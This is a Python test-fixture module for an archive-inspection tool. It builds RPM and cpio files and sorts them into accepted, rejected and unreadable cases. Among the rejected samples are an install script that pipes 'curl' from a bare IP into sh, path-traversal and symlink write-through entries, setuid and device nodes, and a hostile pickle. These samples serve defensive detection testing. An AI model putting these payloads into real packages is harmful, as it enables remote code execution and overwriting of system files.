"""Packages of other systems: RPM with its cpio payload, and archives that are refused."""

import gzip
import hashlib
import lzma
import stat
import struct

import zstandard

from corpora import inspection_content as make
from corpora.inspection_case import bad, good
from lockgate.core.verdict import Outcome

_FILE, _FOLDER, _LINK = stat.S_IFREG | 0o644, stat.S_IFDIR | 0o755, stat.S_IFLNK | 0o777
_DEMO = {"./usr/bin": (_FOLDER, b""), "./usr/bin/demo": (_FILE | 0o111, b"#!/bin/sh\necho demo\n")}
_LEAD = struct.pack(">4s2B2H66s2H16x", b"\xed\xab\xee\xdb", 3, 0, 0, 1, b"demo-1.0-1", 1, 5)


def cpio(members, tail: bytes = b"", magic: bytes = b"070701") -> bytes:
    """Members: name → (mode, content)."""
    out = b""
    for number, (name, (mode, data)) in enumerate([*members.items(), ("TRAILER!!!", (0, b""))], 1):
        raw = name.encode() + b"\x00"
        values = (number, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(raw), 0)
        out += magic + b"".join(b"%08X" % value for value in values) + raw
        out += bytes(-len(out) % 4) + data
        out += bytes(-len(out) % 4)
    return out.ljust(-(-len(out) // 512) * 512, b"\x00") + tail


def _head(texts: dict[int, str]) -> bytes:
    index = store = b""
    for tag, text in texts.items():
        index += struct.pack(">4I", tag, 6, len(store), 1)
        store += text.encode() + b"\x00"
    return b"\x8e\xad\xe8\x01" + bytes(4) + struct.pack(">2I", len(texts), len(store)) + index + store


def rpm(
    members=None, *, packed: str = "gzip", script: str = "", payload: bytes = b"", digest: str = ""
) -> bytes:
    raw = payload or cpio(members or _DEMO)
    compress = {"gzip": gzip.compress, "xz": lzma.compress, "zstd": zstandard.ZstdCompressor().compress}
    body = compress.get(packed, lambda data: data)(raw)
    texts = {1000: "demo", 1124: "cpio", 1125: packed, 5092: digest or hashlib.sha256(body).hexdigest()}
    head = _head(texts | ({1024: script} if script else {}))
    signed = _head({273: hashlib.sha256(head).hexdigest()})
    start = _LEAD + signed
    return start + bytes(-len(start) % 8) + head + body


_LINKED = {"usr/lib": (_LINK, b"../../etc"), "usr/lib/x": (_FILE, b"x")}
_FETCH = "cu" + "rl http:/" + "/203.0.113.7/a | sh\n"

SYSTEMS_GOOD = [
    good("a cpio archive", "a.cpio", cpio({"a.txt": (_FILE, b"text")}), detected="cpio"),
    good("a cpio archive with sums", "a.cpio", cpio({}, magic=b"070702"), detected="cpio"),
    good("a text that begins as cpio does", "a.txt", b"070701 is a number.\n", detected="text"),
    *(
        good(f"an RPM package in {form}", "demo.rpm", rpm(packed=form), detected="rpm")
        for form in ("gzip", "xz", "zstd")
    ),
    good(
        "an RPM package with machine code",
        "demo.rpm",
        rpm({"./usr/bin/x": (_FILE, make.elf())}),
        outcome=Outcome.OPAQUE,
    ),
    good("an RPM package with a script", "demo.rpm", rpm(script="systemctl daemon-reload\n")),
    good(
        "an RPM package with sudo",
        "demo.rpm",
        rpm({"./usr/bin/sudo": (stat.S_ISUID | _FILE, make.elf())}),
        outcome=Outcome.OPAQUE,
    ),
]
SYSTEMS_BAD = [
    bad("an RPM package that fetches", "demo.rpm", rpm(script=_FETCH), "shell-download"),
    bad("an RPM package with another payload", "demo.rpm", rpm(digest="0" * 64), "rpm-digest"),
    bad(
        "an RPM package that sets an id",
        "demo.rpm",
        rpm({"./usr/bin/x": (stat.S_ISUID | _FILE, b"x")}),
        "cpio-setuid",
    ),
    bad(
        "an RPM package with a device",
        "demo.rpm",
        rpm({"./dev/sda": (stat.S_IFBLK | 0o666, b"")}),
        "cpio-device",
    ),
    bad("an RPM package that leads elsewhere", "demo.rpm", rpm({"./../../etc/x": (_FILE, b"x")}), "tar-slip"),
    bad("an RPM package that writes through a link", "demo.rpm", rpm(_LINKED), "tar-through-link"),
    bad("a pickle in an RPM package", "demo.rpm", rpm({"./a.pkl": (_FILE, make.evil_pickle())}), "pickle"),
    bad("bytes behind a cpio archive", "a.cpio", cpio({}, tail=b"hidden words"), "cpio-tail"),
    bad("a 7z archive by itself", "a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60), "archive-refused"),
    bad("a RAR archive", "a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60), "archive-refused"),
]
SYSTEMS_UNREAD = [
    ("an RPM package with a form of payload that nobody knows", "demo.rpm", rpm(packed="brotli")),
    ("an RPM package that breaks off", "demo.rpm", rpm()[:-40]),
    ("an RPM package of version 2", "demo.rpm", rpm().replace(_LEAD, _LEAD[:4] + b"\x02" + _LEAD[5:])),
    ("an RPM package whose store ends early", "demo.rpm", rpm()[:160]),
    ("a cpio archive without an end", "a.cpio", cpio({"a": (_FILE, b"x")})[:112]),
    (
        "a cpio archive with bytes in its padding",
        "a.cpio",
        cpio({"a": (_FILE, b"x")}).replace(b"x\x00\x00\x00", b"xyzw"),
    ),
]
